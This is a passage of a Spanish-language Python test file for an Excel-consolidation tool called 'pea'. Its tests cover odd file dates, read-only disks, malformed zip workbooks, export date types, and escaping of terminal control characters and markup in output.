    (ValueError: year … is out of range)» y ningún maestro; ahora su fecha queda vacía."""
    import os

    with tmpfs(tmp_path / "disco", "2m") as disk:  # ext4 no guarda fechas tan lejanas
        folder = disk / "entregas"
        folder.mkdir()
        for name, when in (("futuro.xlsx", 2.0**50), ("pasado.xlsx", -2.0**50),
                           ("antiguo.xlsx", -3e9), ("bueno.xlsx", 1.7e9)):
            (folder / name).write_bytes(plan_bytes(len(name) % 5))
            os.utime(folder / name, (when, when))
        output = tmp_path / "m.xlsx"
        proc = run_pea("consolidar", folder, "-o", output, "-q", "--csv", tmp_path / "bi")
    assert proc.returncode == 0, proc.stderr
    rows = {r["Archivo"]: r for r in sheet_rows(output, "Entregas")}
    assert len(rows) == 4
    assert rows["futuro.xlsx"]["Fecha de modificación"] is None
    assert rows["antiguo.xlsx"]["Fecha de modificación"] is None
    assert rows["bueno.xlsx"]["Fecha de modificación"] is not None


def test_demo_en_disco_de_solo_lectura(tmp_path: Path) -> None:
    """`pea demo` en un disco de solo lectura: mensaje en español y código 1 (antes
    «Error interno»)."""
    with tmpfs(tmp_path / "disco", "1m") as disk:
        _read_only(disk)
        proc = run_pea("demo", "--carpeta", disk / "demo")
    assert proc.returncode == 1, proc.stderr
    assert "Error interno" not in proc.stderr and "Traceback" not in proc.stderr
    assert "el disco es de solo lectura" in proc.stderr


def _unsupported_compression_zip() -> bytes:
    """Un zip cuyas partes (entre ellas docProps/custom.xml) dicen usar un método de
    compresión que zipfile no conoce (97): zipfile lanza NotImplementedError."""
    import struct

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("docProps/custom.xml", "<Properties/>")
    data = bytearray(buf.getvalue())
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = 0
        while (j := data.find(signature, start)) >= 0:
            data[j + offset:j + offset + 2] = struct.pack("<H", 97)
            start = j + 4
    return bytes(data)


def test_zip_con_compresion_desconocida_no_detiene_la_corrida(tmp_path: Path) -> None:
    """Antes de leer, PEA mira si cada libro es un maestro de otra corrida; un zip con un
    método de compresión desconocido daba «Error interno (NotImplementedError)» a todos."""
    folder = tmp_path / "entregas"
    folder.mkdir()
    (folder / "raro.xlsx").write_bytes(_unsupported_compression_zip())
    (folder / "bueno.xlsx").write_bytes(plan_bytes(1))
    output = tmp_path / "m.xlsx"
    proc = run_pea("consolidar", folder, "-o", output, "-q")
    assert proc.returncode == 0, proc.stderr
    rows = {r["Archivo"]: r for r in sheet_rows(output, "Entregas")}
    assert rows["raro.xlsx"]["Estado"] == "Ilegible"
    assert rows["bueno.xlsx"]["Estado"] in ("Aceptado", "Con observaciones")


def test_fechas_de_entregas_en_csv_y_parquet(tmp_path: Path) -> None:
    """La fecha de modificación sigue siendo fecha: ISO sin microsegundos en el CSV y
    timestamp en el Parquet (`cells.fit` no la vuelve texto)."""
    import pyarrow.parquet as pq

    folder = tmp_path / "entregas"
    folder.mkdir()
    (folder / "a.xlsx").write_bytes(plan_bytes(1))
    out = tmp_path / "bi"
    consolidate(Options(folder=folder, output=tmp_path / "m.xlsx", csv_dir=out, parquet_dir=out,
                        workers=1), load_config())
    row = _csv_rows(out, "entregas")[0]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", row["Fecha de modificación"])
    table = pq.read_table(out / "entregas.parquet").to_pylist()
    assert table[0]["Fecha de modificación"] is not None


def test_json_de_consolidar_escapa_los_controles(tmp_path: Path) -> None:
    """En `--formato json` ningún carácter de control llega crudo (json ya escapa los C0;
    DEL y los C1, como U+009B, un CSI de terminal, también) y el JSON es el mismo."""
    folder = tmp_path / "entregas"
    folder.mkdir()
    name = "plan \x9b2J\x7f\x1b.xlsx"
    (folder / name).write_bytes(plan_bytes(1))
    (folder / "plan.xlsx").write_bytes(plan_bytes(1))  # misma dependencia: PEA-X01 la nombra
    proc = run_pea("consolidar", folder, "-o", tmp_path / "m.xlsx", "-f", "json")
    assert proc.returncode == 0, proc.stderr
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", proc.stdout)
    data = json.loads(proc.stdout)
    assert any(name in f["mensaje"] for f in data["entre_libros"]), data["entre_libros"]


def test_pea_reglas_muestra_la_configuracion_literal(tmp_path: Path) -> None:
    """La versión de la configuración (texto del archivo YAML) con markup y ESC: antes
    rich la interpretaba («[/x]» → MarkupError) y el ESC llegaba crudo a la terminal."""
    from pea.config import default_rules_dir

    rules = tmp_path / "reglas"
    shutil.copytree(default_rules_dir(), rules)
    conf = rules / "configuracion.yaml"
    text = conf.read_text(encoding="utf-8")
    assert 'version: "2024.1"' in text
    conf.write_text(text.replace('version: "2024.1"', 'version: "[/x] \\e[2J\\a v1"'),
                    encoding="utf-8")
    proc = run_pea("reglas", "--reglas", rules)
    # un carácter de control en un texto de la configuración es un error de la persona
    # (exit 2, nombra la clave), y el mensaje lo muestra escapado
    assert proc.returncode == 2, proc.stderr
    assert "\x1b" not in proc.stderr + proc.stdout and "\x07" not in proc.stderr + proc.stdout
    assert "[/x] \\x1b[2J\\x07 v1" in proc.stderr and "«version»" in proc.stderr
    # el markup solo (sin control) se imprime literal
    conf.write_text(text.replace('version: "2024.1"', 'version: "[/x] [bold]v1"'),
                    encoding="utf-8")
    proc = run_pea("reglas", "--reglas", rules)
    assert proc.returncode == 0, proc.stderr
    assert "[/x] [bold]v1" in proc.stdout
